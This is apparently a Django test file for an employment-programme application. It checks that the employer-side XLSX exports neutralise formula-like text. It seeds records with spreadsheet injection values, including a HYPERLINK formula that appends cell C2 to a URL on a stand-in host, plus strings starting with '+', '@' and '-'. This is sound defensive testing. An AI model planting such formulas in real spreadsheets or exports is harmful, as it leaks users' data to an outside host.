"""The employer side's XLSX files are written through ``plie.core.writers``: a text typed like a
formula (an employer, an offer, a market) comes out as text, never as a formula
(``tests/core/test_export_injection.py`` lists these URLs among the covered exports)."""

import datetime

from django.urls import reverse

from tests.core.test_export_injection import check_xlsx
from tests.entreprises.factories import (
    EmployeurFactory,
    HeuresMoisFactory,
    MarcheFactory,
    MiseEnRelationFactory,
    OffreFactory,
    PlacementFactory,
)
from tests.factories import ParticipantFactory
from tests.parcours.factories import ParcoursFactory

FORMULE = '=HYPERLINK("http://x?"&C2,"Voir")'


def test_the_employer_side_files_neutralise_formula_texts(client, world):
    employeur = EmployeurFactory(plie=world.plie_a, nom=FORMULE)
    offre = OffreFactory(employeur=employeur, intitule="+Maçon")
    participant = ParticipantFactory(plie=world.plie_a, nom="@Dupont")
    parcours = ParcoursFactory(plie=world.plie_a, participant=participant, en_parcours=True)
    MiseEnRelationFactory(offre=offre, parcours=parcours, participant=participant)
    marche = MarcheFactory(plie=world.plie_a, attributaire=employeur, donneur_ordre="-Agglo")
    placement = PlacementFactory(marche=marche, participant=participant)
    HeuresMoisFactory(placement=placement, mois=datetime.date(2026, 3, 1), heures=35)
    client.force_login(world.gestionnaire_a)
    for kind, markers in (
        ("employeurs-offres", (FORMULE, "+Maçon")),
        ("mises-en-relation", (FORMULE,)),
        ("heures-clauses", ("-Agglo",)),
    ):
        response = client.get(reverse("entreprises:preuve_xlsx", args=[kind]), {"annee": "2026"})
        assert response.status_code == 200, kind
        check_xlsx(response.content, *markers)
    response = client.get(reverse("entreprises:impact_xlsx"), {"annee": str(datetime.date(2026, 1, 1).year)})
    assert response.status_code == 200
    check_xlsx(response.content)
